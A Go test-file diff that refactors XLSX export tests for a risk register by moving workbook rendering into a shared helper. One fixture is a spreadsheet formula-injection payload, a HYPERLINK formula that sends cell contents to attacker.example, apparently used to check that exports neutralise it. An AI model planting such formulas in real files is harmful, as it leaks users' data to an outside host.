@@ -62,10 +62,10 @@ func jsonRiskIDs(t *testing.T, d *model.Document) []string {
 	return ids
 }
 
-func TestWorkbookReopens(t *testing.T) {
-	d := model.Demo(testNow)
-	const formula = `=HYPERLINK("http://attacker.example/?q="&A1,"Open")`
-	d.Flows[0].Failure.Risks[0].Title = formula
+// renderWorkbook is the session's workbook, opened by excelize; the test's
+// end closes it.
+func renderWorkbook(t *testing.T, d *model.Document) *excelize.File {
+	t.Helper()
 	b, err := Render(d, FormatXLSX, ExportOptions{Now: testNow})
 	if err != nil {
 		t.Fatal(err)
@@ -74,7 +74,15 @@ func TestWorkbookReopens(t *testing.T) {
 	if err != nil {
 		t.Fatalf("the workbook does not open: %v", err)
 	}
-	defer f.Close()
+	t.Cleanup(func() { f.Close() })
+	return f
+}
+
+func TestWorkbookReopens(t *testing.T) {
+	d := model.Demo(testNow)
+	const formula = `=HYPERLINK("http://attacker.example/?q="&A1,"Open")`
+	d.Flows[0].Failure.Risks[0].Title = formula
+	f := renderWorkbook(t, d)
 	if got := f.GetSheetList(); !slices.Equal(got, WorkbookSheets) {
 		t.Fatalf("sheets %v, want %v", got, WorkbookSheets)
 	}
@@ -148,15 +156,7 @@ func TestWorkbookKeepsTypedText(t *testing.T) {
 	for i, title := range titles {
 		d.Flows[i%len(d.Flows)].Failure.Risks = append(d.Flows[i%len(d.Flows)].Failure.Risks, model.Risk{ID: model.NewIDAt(testNow, uint64(900+i)), Title: title, Impact: 5, Likelihood: 5})
 	}
-	b, err := Render(d, FormatXLSX, ExportOptions{Now: testNow})
-	if err != nil {
-		t.Fatal(err)
-	}
-	f, err := excelize.OpenReader(bytes.NewReader(b))
-	if err != nil {
-		t.Fatalf("the workbook does not open: %v", err)
-	}
-	defer f.Close()
+	f := renderWorkbook(t, d)
 	rows, err := f.GetRows(SheetRegister)
 	if err != nil {
 		t.Fatal(err)
